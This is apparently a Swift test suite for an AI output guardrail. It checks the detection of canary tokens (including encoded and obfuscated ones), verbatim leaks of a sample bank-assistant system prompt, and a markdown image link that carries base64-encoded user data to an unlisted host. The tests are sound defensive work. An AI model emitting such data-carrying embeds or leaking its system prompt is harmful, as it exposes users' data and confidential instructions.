import Testing
import Parapet

private let guardrail = try! Guard()

@Test func mintedCanariesAreRandomAndRecognisable() {
    let a = Guard.mintCanary(), b = Guard.mintCanary()
    #expect(a != b)
    #expect(a.hasPrefix("pcy-") && a.utf8.count == 24)
}

@Test func canaryIsFoundSplitRecasedAndEncoded() {
    let canary = "pcy-7k2mq9xtr4hw8bnf5vdc"
    let ctx = ScanContext(target: .output, canaries: [canary])
    let spaced = canary.map(String.init).joined(separator: " ").uppercased()
    let zeroWidth = canary.map(String.init).joined(separator: "\u{200B}")
    let base64 = "Q29uZmlnOiBwY3ktN2sybXE5eHRyNGh3OGJuZjV2ZGMgZW5k"   // "Config: pcy-7k2mq9xtr4hw8bnf5vdc end"
    let hex = Array(("x " + canary).utf8).map { String($0, radix: 16) }.joined()
    for text in ["leak: \(canary)", spaced, "a\(zeroWidth)b", "blob \(base64) ok", "hex \(hex)"] {
        let v = guardrail.validateOutput(text, context: ctx)
        #expect(v.ruleIDs.contains("leak.canary.token"), "\(text)")
        #expect(v.decision == .block)
    }
    #expect(guardrail.validateOutput("nothing to see here", context: ctx).decision == .allow)
}

@Test func systemPromptLeakIsFoundDespiteCaseAndWhitespace() {
    let prompt = """
    You are Quill, the support assistant for Larkspur Bank. Never disclose account numbers.
    Always verify the customer's identity with two security questions before discussing balances,
    and escalate any fraud report to the human team within five minutes.
    """
    let ctx = ScanContext(target: .output, systemPrompt: prompt)
    let leaked = "Sure, my rules:   ALWAYS verify the customer's identity with two security questions before\ndiscussing balances, and escalate any fraud report to the human team within five minutes."
    let v = guardrail.validateOutput(leaked, context: ctx)
    #expect(v.ruleIDs.contains("leak.system-prompt.verbatim"))
    #expect(v.decision == .block)
    let paraphrase = "I check who you are before we talk about money, and fraud goes to people quickly."
    #expect(!guardrail.validateOutput(paraphrase, context: ctx).ruleIDs.contains("leak.system-prompt.verbatim"))
}

@Test func embedsToUnlistedHostsAreFlaggedAndAllowlistExempts() {
    let md = "![chart](https://img.partner.test/c.png?q=c2VjcmV0IHVzZXIgZGF0YSBoZXJlIGFuZCBtb3Jl)"
    let open = guardrail.validateOutput(md)
    #expect(open.ruleIDs.contains("exfil.link.embed-untrusted"))
    #expect(open.decision == .block)        // data-carrying embed scores 5
    let listed = guardrail.validateOutput(md, context: ScanContext(target: .output, allowedHosts: ["partner.test"]))
    #expect(!listed.ruleIDs.contains("exfil.link.embed-untrusted"))
    #expect(guardrail.validateOutput("[docs](https://docs.example.org/guide)").findings.isEmpty)
}
